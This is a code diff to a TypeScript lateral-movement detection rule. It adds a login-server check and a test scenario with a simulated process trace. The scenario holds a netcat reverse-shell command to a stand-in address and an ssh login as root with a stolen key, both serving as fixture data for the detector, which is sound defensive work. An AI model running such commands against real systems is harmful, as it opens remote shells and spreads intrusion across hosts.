@@ -2,6 +2,7 @@ import type { DetectionCase } from '../../model/detection-case.js';
 import type { Process } from '../../model/process.js';
 import type { Draft, Story } from '../draft.js';
 import { descendants, programName, seconds } from '../lineage.js';
+import { isLoginServer } from '../programs.js';
 import { isSerious, type Reach, reachOf } from '../reach.js';
 import { defineRule } from '../rule.js';
 import { scenario } from '../scenario.js';
@@ -67,6 +68,23 @@ export const lateralHop = defineRule({
     `,
     ),
     scenario(
+      'ssh with a stolen key, to a server that people log in to every day',
+      `
+      container web 10.0.0.10
+      0       node server.js
+      1200      nc host 4444 -e /bin/sh
+      1200.02     > tcp 203.0.113.9:4444
+      1200.03     => /bin/sh
+      1210        ssh -i /tmp/k root@10.0.0.20
+      1210.1        > tcp 10.0.0.20:22
+      container gateway 10.0.0.20
+      0       /usr/sbin/sshd -D
+      0.1       listen tcp 22
+      600       /bin/bash
+      1211      /bin/bash
+    `,
+    ),
+    scenario(
       'the server that was called runs something new',
       `
       container web 10.0.0.10
@@ -113,7 +131,11 @@ function arrivalOf(view: DetectionCase, story: Story, reach: Reach, stories: rea
   if (reach.server === undefined) return undefined;
   const below = descendants(view, reach.server, PROCESSES_READ).filter((process) => process.knownFrom === 'exec');
   const known = new Set(below.filter((process) => startOf(process) < atUs).map(programName));
-  const news = below.find((process) => startOf(process) >= atUs && startOf(process) - atUs <= window && !known.has(programName(process)));
+  const isLogin = isLoginServer(programName(reach.server));
+  const news = below.find((process) => {
+    const isNew = !known.has(programName(process)) || (isLogin && shellKind(process) !== undefined);
+    return isNew && startOf(process) >= atUs && startOf(process) - atUs <= window;
+  });
   return news === undefined ? undefined : { reach, process: news, isShell: shellKind(news) !== undefined, delayUs: startOf(news) - atUs };
 }
 
